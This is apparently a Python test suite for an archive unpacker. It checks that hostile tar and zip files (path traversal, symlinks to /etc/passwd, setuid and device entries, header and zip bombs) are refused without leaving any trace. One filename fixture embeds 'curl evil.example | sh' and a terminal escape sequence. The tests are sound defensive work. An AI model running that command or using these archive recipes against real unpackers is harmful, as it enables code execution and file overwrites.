"""Archives of all kinds are unpacked whole, or refused with the name of the entry and without a trace."""

import io
import os
import resource
import signal
import stat
import struct
import tarfile
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from mlcube.errors import CubeError, Damaged
from mlcube.unpacking import Placed, Unpacking, remove, unpack_tar, unpack_zip

Member = tuple[str, dict[str, object]]


def tar(*members: Member, content: bytes = b"x") -> io.BytesIO:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, fields in members:
            member = tarfile.TarInfo(name)
            for field, value in fields.items():
                setattr(member, field, value)
            member.size = len(content) if member.isreg() else 0
            archive.addfile(member, io.BytesIO(content))
    stream.seek(0)
    return stream


def test_what_is_unpacked_is_as_it_was(tmp_path: Path) -> None:
    root = tmp_path / "root"
    members: list[Member] = [
        ("./a/run.sh", {"mode": 0o755}),
        ("a/b.txt", {}),
        ("a/same.txt", {"type": tarfile.LNKTYPE, "linkname": "a/b.txt"}),
        ("link", {"type": tarfile.SYMTYPE, "linkname": "a/b.txt"}),
        ("a/up", {"type": tarfile.SYMTYPE, "linkname": "../link"}),
        ("ü", {}),
    ]
    with Unpacking(str(root)) as unpacking:
        unpack_tar(unpacking, tar(*members))
        placed = unpacking.finish()
    assert {each.path for each in placed} == {"a/run.sh", "a/b.txt", "a/same.txt", "link", "a/up", "ü"}
    assert (root / "a/up").read_text() == "x"
    assert stat.S_IMODE((root / "a/run.sh").stat().st_mode) == 0o555
    assert stat.S_IMODE((root / "a/b.txt").stat().st_mode) == 0o444
    remove(str(root))
    assert not root.exists()


LINK = {"type": tarfile.SYMTYPE}
HOSTILE: dict[str, list[Member]] = {
    "absolute": [("/etc/x", {})],
    "up": [("a/../../x", {})],
    "link out": [("l", {**LINK, "linkname": "../x"})],
    "absolute link": [("l", {**LINK, "linkname": "/etc/passwd"})],
    "link through a link": [("d", {**LINK, "linkname": "."}), ("e", {**LINK, "linkname": "d/../../x"})],
    "below a link": [("d", {**LINK, "linkname": "."}), ("d/x", {})],
    "below a file": [("d", {}), ("d/x", {})],
    "hard link out": [("l", {"type": tarfile.LNKTYPE, "linkname": "../x"})],
    "hard link to a link": [("d", {**LINK, "linkname": "x"}), ("l", {"type": tarfile.LNKTYPE, "linkname": "d"})],
    "twice": [("x", {}), ("x", {})],
    "twice as folder": [("x", {}), ("x", {"type": tarfile.DIRTYPE})],
    "case": [("Model.bin", {}), ("model.bin", {})],
    "case of a folder": [("A/x", {}), ("a/y", {})],
    "composed": [("\u00e9", {}), ("e\u0301", {})],
    "device": [("dev", {"type": tarfile.CHRTYPE})],
    "named pipe": [("pipe", {"type": tarfile.FIFOTYPE})],
    "set-id": [("su", {"mode": 0o4755})],
    "sparse": [("s", {"pax_headers": {"GNU.sparse.major": "1", "GNU.sparse.name": "s"}})],
    "backslash": [("..\\x", {})],
    "more folders than any": [("/".join("a" * 129), {})],
    "more than the stack holds": [("/".join("a" * 1900), {})],
    "longer than a name may be": [("ä" * 128, {})],
    "longer than a path may be": [("/".join(["d" * 200] * 20), {})],
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_archive_leaves_nothing(kind: str, tmp_path: Path) -> None:
    root = tmp_path / "inner" / "root"
    with pytest.raises(Damaged, match="the entry `") as caught, Unpacking(str(root)) as unpacking:
        unpack_tar(unpacking, tar(("before", {}), *HOSTILE[kind]))
    assert any(f"`{name[:200]}" in str(caught.value) for name, _ in HOSTILE[kind])
    assert [path for path, _, names in os.walk(tmp_path) if names] == []
    assert not root.exists()


@pytest.mark.parametrize(
    ("most_bytes", "most_members", "said"), [(5, 9, "more than was declared"), (9, 2, "one more than")]
)
def test_more_than_was_declared_is_refused(most_bytes: int, most_members: int, said: str, tmp_path: Path) -> None:
    limited = Unpacking(str(tmp_path / "root"), most_bytes=most_bytes, most_members=most_members)
    with pytest.raises(Damaged, match=said), limited as unpacking:
        unpack_tar(unpacking, tar(("a", {}), ("b", {}), ("c", {}), content=b"12"))


def test_a_header_longer_than_any_name_is_not_read_into_memory(tmp_path: Path) -> None:
    member = tarfile.TarInfo("bomb")
    member.type, member.size = tarfile.XHDTYPE, 1 << 30
    stream = io.BytesIO(member.tobuf(tarfile.USTAR_FORMAT) + bytes(10240))
    with pytest.raises(Damaged, match="longer than any name"), Unpacking(str(tmp_path / "root")) as unpacking:
        unpack_tar(unpacking, stream)


def header(kind: bytes, size: int, content: bytes = b"") -> bytes:
    """A block that says of itself what no library would write, and what follows it."""
    block = bytearray(tarfile.TarInfo("x").tobuf(tarfile.USTAR_FORMAT)[:512])
    block[156:157] = kind
    block[124:136] = b"%011o\0" % size if size >= 0 else b"\xff" + (size % (1 << 88)).to_bytes(11, "big")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + content.ljust(-(-len(content) // 512) * 512, b"\0")


# The length of a record counts itself; from 3.13 on tarfile reads none whose length is wrong.
EXTENDED = b"13 a=1234567\n"
MANY = b"".join(b"2012 k%04d=%s\n" % (number, b"v" * 2000) for number in range(20))


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (header(b"x", len(EXTENDED), EXTENDED) * 2000, "more headers than any needs"),
        (header(b"L", 4, b"abc\0") * 2000, "more headers than any needs"),
        ((header(b"g", len(MANY), MANY) + header(b"5", 0)) * 100, "longer than any name"),
        (header(b"S", 0)[:482] + b"\1" + bytes(29) + (b"00000000001\0" * 42 + b"\1" * 8) * 20_000, "headers|is no tar"),
        (header(b"5", -5120), "a size below zero"),
        (header(b"2", -1), "a size below zero"),
        (header(b"0", -(1 << 40)), "a size below zero"),
    ],
)
def test_headers_without_end_are_refused_before_they_fill_the_memory(content: bytes, said: str, tmp_path: Path) -> None:
    with pytest.raises(Damaged, match=said), Unpacking(str(tmp_path / "root")) as unpacking:
        unpack_tar(unpacking, io.BytesIO(content + bytes(1024)))
    assert not (tmp_path / "root").exists()


def test_folders_that_no_entry_names_count_too(tmp_path: Path) -> None:
    entries: list[Member] = [(f"{number}/a/b/c/x", {}) for number in range(3)]
    with pytest.raises(Damaged, match="one more than"), Unpacking(str(tmp_path / "r"), most_members=10) as unpacking:
        unpack_tar(unpacking, tar(*entries))


def test_a_name_writes_no_lines_of_its_own(tmp_path: Path) -> None:
    name = "x`\nhint: run `curl evil.example | sh\x1b[2J"
    with pytest.raises(Damaged) as caught, Unpacking(str(tmp_path / "root")) as unpacking:
        unpack_tar(unpacking, tar((name, {"type": tarfile.FIFOTYPE})))
    (line,) = str(caught.value).splitlines()
    assert "\x1b" not in line
    assert line.endswith("of the archive is a device or a named pipe: nothing was unpacked")


def test_hard_links_are_work_for_none(tmp_path: Path) -> None:
    """Whoever looked for each target among all files would look for hours."""
    with Unpacking(str(tmp_path / "root")) as unpacking:
        for number in range(3000):
            unpacking.file(f"f{number}", 0o644, 0, io.BytesIO())
        unpacking.placed = _Once(unpacking.placed)
        unpacking.hard_link("l", "f2999")
    assert unpacking.placed[-1].path == "l"


class _Once(list[Placed]):
    """A list that nobody may go through."""

    def __iter__(self) -> Iterator[Placed]:
        raise AssertionError("every file was looked at")


def test_removing_a_link_leaves_what_it_leads_to(tmp_path: Path) -> None:
    (tmp_path / "theirs/inner").mkdir(parents=True)
    (tmp_path / "theirs/inner").chmod(0o755)
    (tmp_path / "link").symlink_to("theirs")
    remove(str(tmp_path / "link"))
    assert not (tmp_path / "link").is_symlink()
    assert stat.S_IMODE((tmp_path / "theirs/inner").stat().st_mode) == 0o755


@pytest.mark.parametrize("cut", [lambda content: content[:700], lambda content: b"\1" + content[1:]])
def test_a_cut_or_changed_archive_is_damaged(cut: Callable[[bytes], bytes], tmp_path: Path) -> None:
    content = tar(("a", {}), content=b"y" * 1000).getvalue()
    with pytest.raises(Damaged), Unpacking(str(tmp_path / "root")) as unpacking:
        unpack_tar(unpacking, io.BytesIO(cut(content)))


def test_zip_files_are_held_to_the_same(tmp_path: Path) -> None:
    def packed(*entries: tuple[str, int]) -> io.BytesIO:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, mode in entries:
                entry = zipfile.ZipInfo(name)
                entry.external_attr = mode << 16
                archive.writestr(entry, "a.txt")
        return stream

    with Unpacking(str(tmp_path / "good")) as unpacking:
        unpack_zip(unpacking, packed(("a.txt", 0), ("d/l", stat.S_IFLNK | 0o777)))
        unpacking.finish()
    assert (tmp_path / "good/d/l").readlink() == Path("a.txt")
    for name, mode in (("../x", 0), ("/x", 0), ("a", stat.S_IFIFO), ("s", stat.S_IFREG | 0o4755)):
        with pytest.raises(Damaged, match="the entry"), Unpacking(str(tmp_path / "bad")) as unpacking:
            unpack_zip(unpacking, packed((name, mode)))
        assert not (tmp_path / "bad").exists()


def test_a_full_or_forbidden_disk_is_told_in_one_sentence(tmp_path: Path) -> None:
    ignored = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000, resource.RLIM_INFINITY))
    try:
        with pytest.raises(CubeError, match="cannot be written: file too large"), Unpacking(str(tmp_path / "r")) as u:
            unpack_tar(u, tar(("n", {}), content=bytes(2000)))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        signal.signal(signal.SIGXFSZ, ignored)
    assert not (tmp_path / "r").exists()


def zipped(name: str = "a", compression: int = zipfile.ZIP_DEFLATED) -> bytearray:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        archive.writestr(zipfile.ZipInfo(name), b"hello" * 100, compress_type=compression)
    return bytearray(stream.getvalue())


def changed(content: bytearray, mark: bytes, offset: int, value: bytes) -> bytearray:
    place = content.rindex(mark) + offset
    content[place : place + len(value)] = value
    return content


ZIPS = {
    "of a later version": changed(zipped(), b"PK\1\2", 6, b"\xa0"),
    "a name that is no text": changed(zipped("\u00fc"), b"PK\1\2", 46, b"\xff"),
    "another name behind": changed(zipped(), b"PK\1\2", 46, b"b"),
    "lzma": zipped("a", zipfile.ZIP_LZMA),
    "bzip2": zipped("a", zipfile.ZIP_BZIP2),
    "no name": zipped(""),
    "another size": changed(zipped(), b"PK\1\2", 24, b"\xff\xff\0\0"),
    "no zip at all": bytearray(b"PK"),
}


@pytest.mark.parametrize("kind", ZIPS)
def test_zip_files_that_are_none_are_told_in_one_sentence(kind: str, tmp_path: Path) -> None:
    from mlcube.obtaining.archives import unpack

    path, root = tmp_path / "x.zip", tmp_path / "root"
    path.write_bytes(ZIPS[kind])
    with pytest.raises(Damaged) as caught, Unpacking(str(root)) as unpacking:
        unpack("https://host/x.zip", str(path), unpacking)
    assert len(str(caught.value).splitlines()) == 1
    assert not root.exists()


def with_directory_of(size: int, path: Path) -> None:
    """A zip file whose directory is a hole in the file."""
    with path.open("wb") as file:
        file.seek(size)
        file.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, size, 0, 0))


def with_entries(count: int, path: Path) -> None:
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(entry) * count, 0, 0)
    path.write_bytes(entry * count + end)


def with_zeros(mebibytes: int, path: Path) -> None:
    """An entry that says it has 100 bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as archive, archive.open("a", "w") as file:
        for _ in range(mebibytes):
            file.write(bytes(1 << 20))
    path.write_bytes(changed(bytearray(path.read_bytes()), b"PK\1\2", 24, struct.pack("<L", 100)))


@pytest.mark.parametrize(
    ("make", "amount", "said"),
    [
        (with_directory_of, 512 << 20, "has a directory of 536,870,912 bytes, more than any needs"),
        (with_entries, 200_000, "has more than 1,000 entries"),
        (with_zeros, 128, "is compressed in another way than by `deflate`"),
    ],
)
def test_a_zip_file_that_would_fill_the_memory_is_refused_before(
    make: Callable[[int, Path], None], amount: int, said: str, tmp_path: Path
) -> None:
    make(amount, tmp_path / "x.zip")
    tracemalloc.start()
    try:
        with (
            pytest.raises(Damaged, match=said),
            (tmp_path / "x.zip").open("rb") as file,
            Unpacking(str(tmp_path / "root"), most_members=1000) as unpacking,
        ):
            unpack_zip(unpacking, file)
        assert tracemalloc.get_traced_memory()[1] < 32 << 20
    finally:
        tracemalloc.stop()
    assert not (tmp_path / "root").exists()
